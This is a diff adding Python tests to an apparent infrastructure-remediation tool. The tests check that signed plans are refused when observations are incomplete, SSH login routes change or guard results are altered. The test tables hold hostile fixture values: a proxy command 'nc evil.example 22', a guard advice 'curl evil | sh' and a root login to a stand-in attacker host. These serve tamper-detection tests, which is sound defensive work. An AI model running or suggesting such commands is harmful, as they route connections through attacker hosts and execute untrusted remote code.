@@ -4,7 +4,7 @@ well it is signed, nothing is applied.
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from datetime import datetime, timedelta
 from typing import Any
 
@@ -14,11 +14,12 @@ from msgspec.structs import replace
 
 from remediations.compile.compiler import Compiler
 from remediations.diagnose.diagnose import diagnose
-from remediations.errors import Refused, RemediationError, WorldChanged
+from remediations.errors import Refused, RemediationError, UsageError, WorldChanged
+from remediations.model.login import Login
 from remediations.model.reading import Known
-from remediations.observe.observation import HostReading, Observation
-from remediations.plan.compare import MOVABLE, changed_fields
-from remediations.plan.plan import Plan
+from remediations.observe.observation import HostReading, Observation, Scope
+from remediations.plan.compare import MOVABLE, changed_fields, changed_logins
+from remediations.plan.plan import GuardResult, Outcome, Plan
 from remediations.playbooks.of_plan import branch_of
 from remediations.playbooks.playbook import Situation
 from remediations.playbooks.recheck import Maker, follows, recheck
@@ -150,6 +151,21 @@ def test_what_the_fresh_observation_lets_pass_is_declared(maker: Maker) -> None:
     assert undeclared == set()
 
 
+FIXED = ("origin", "tool", "playbook", "branch", "checks", "targets", "logins", "risk", "warnings")
+
+
+def test_what_runs_and_who_is_meant_never_moves() -> None:
+    """The table of what may move is not widened to any of this: what runs, where, by whose code,
+    for how long, what is checked afterwards, and how many have to approve."""
+    moving = {name.partition(".")[0] for name in MOVABLE}
+    assert not moving & {*FIXED, "worst_case", "approvals_needed", "inventory_digest", "chain_id"}
+    assert not {"stages", "stages.*", "facts", "baseline"} & MOVABLE.keys()
+    for path in PATHS:
+        plan = mutated(path)
+        if plan is not None and (path[0] in FIXED or "commands" in path):
+            assert changed_fields(plan, PLAN), path
+
+
 def test_what_moves_with_time_is_let_pass(maker: Maker) -> None:
     """A minute later, at the same height, the round has risen: the plan still holds."""
     recheck(PLAN, later(WORLD, rounds=3), maker)
@@ -179,6 +195,29 @@ def test_observation_of_another_plan_is_refused(maker: Maker) -> None:
         follows(PLAN, later(WORLD), maker)
 
 
+INCOMPLETE = {
+    "deciding": lambda world: replace(world, scope=Scope.DECIDING),
+    "format": lambda world: replace(world, format=99),
+    "twice": lambda world: replace(world, hosts=(*world.hosts, world.hosts[-1])),
+    "dropped": lambda world: replace(world, hosts=world.hosts[:-1]),
+    "backwards": lambda world: replace(world, began=world.ended + timedelta(seconds=1)),
+}
+
+
+@pytest.mark.parametrize("change", INCOMPLETE.values(), ids=INCOMPLETE)
+def test_incomplete_observation_gives_no_plan(
+    maker: Maker, change: Callable[[Observation], Observation]
+) -> None:
+    """Without a full reading a guard (G8) would not be asked at all, and no line would say so;
+    nothing that is read at `apply` would miss it."""
+    world = change(WORLD)
+    made = maker.build(world, diagnose(world), _proposal(maker, world))
+    with pytest.raises(Refused, match="not what its own observation gives"):
+        follows(made, world, maker)
+    with pytest.raises(UsageError, match="no plan can be made"):
+        compiled(world)
+
+
 def test_plan_of_another_version_is_refused(maker: Maker) -> None:
     with pytest.raises(Refused) as refused:
         follows(replace(PLAN, tool="remediate 9.9"), WORLD, maker)
@@ -203,6 +242,53 @@ def test_name_that_leads_elsewhere_is_refused(maker: Maker) -> None:
         with pytest.raises(WorldChanged) as changed:
             recheck(PLAN, replace(WORLD, logins=logins), maker)
         assert "logins[val1]" in changed.value.got
+
+
+WAYS: dict[str, Callable[[Login], Login]] = {
+    "machine": lambda login: _hop(login, hostname="evil.example"),
+    "port": lambda login: _hop(login, port=2222),
+    "user": lambda login: _hop(login, user="root"),
+    "proxy": lambda login: _hop(login, proxy_command="nc evil.example 22"),
+    "key": lambda login: _hop(login, host_keys=("ssh-ed25519 SHA256:other",)),
+    "one more key": lambda login: _hop(login, host_keys=(*login.hops[0].host_keys, "one more")),
+    "jump": lambda login: replace(login, hops=(login.hops[0], *login.hops)),
+    "nowhere": lambda login: replace(login, hops=(), trouble="ssh_config cannot be read"),
+}
+
+
+@pytest.mark.parametrize("change", WAYS.values(), ids=WAYS)
+def test_name_that_leads_elsewhere_is_named_at_once(
+    change: Callable[[Login], Login],
+) -> None:
+    """Each part of the way counts, for each host; so does a host that is not there any more."""
+    planned = PLAN.logins
+    for number, login in enumerate(planned):
+        now = (*planned[:number], change(login), *planned[number + 1 :])
+        (difference,) = changed_logins(planned, now)
+        assert difference.name.startswith(f"{login.host}: ")
+        assert changed_logins(planned, (*planned[:number], *planned[number + 1 :]))
+    assert changed_logins(planned, planned) == ()
+
+
+GUARDS: dict[str, Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]]] = {
+    "left out": lambda guards: guards[1:],
+    "one more": lambda guards: (*guards, guards[0]),
+    "outcome": lambda guards: (replace(guards[0], outcome=Outcome.UNKNOWN), *guards[1:]),
+    "title": lambda guards: (replace(guards[0], title="all is well"), *guards[1:]),
+    "advice": lambda guards: (replace(guards[0], next_step="curl evil | sh"), *guards[1:]),
+    "facts": lambda guards: (replace(guards[0], facts=("x",)), *guards[1:]),
+    "host": lambda guards: (replace(guards[0], host="val9"), *guards[1:]),
+}
+
+
+@pytest.mark.parametrize("change", GUARDS.values(), ids=GUARDS)
+def test_guards_may_see_something_else_and_nothing_more(
+    change: Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]],
+) -> None:
+    (difference,) = changed_fields(replace(PLAN, guards=change(PLAN.guards)), PLAN)
+    assert difference.name == "guards"
+    seen = tuple(replace(guard, got="another height") for guard in PLAN.guards)
+    assert changed_fields(replace(PLAN, guards=seen), PLAN) == ()
 
 
 def later(world: Observation, *, rounds: int = 0) -> Observation:
@@ -230,11 +316,15 @@ def _in_later_round(reading: HostReading, rounds: int) -> HostReading:
     return replace(reading, samples=samples)
 
 
-def _proposal(maker: Maker) -> Any:  # noqa: ANN401 - the branch's own
+def _proposal(maker: Maker, world: Observation = WORLD) -> Any:  # noqa: ANN401 - the branch's own
     situation = Situation(
-        observation=WORLD, finding=diagnose(WORLD), only=frozenset(PLAN.acting_hosts)
+        observation=world, finding=diagnose(world), only=frozenset(PLAN.acting_hosts)
     )
     return branch_of(PLAN, maker.playbook).propose(situation)
+
+
+def _hop(login: Login, **fields: Any) -> Login:  # noqa: ANN401 - a hop's own fields
+    return replace(login, hops=(replace(login.hops[0], **fields), *login.hops[1:]))
 
 
 def _gate(plan: Plan, **fields: Any) -> Plan:  # noqa: ANN401 - a gate's own fields
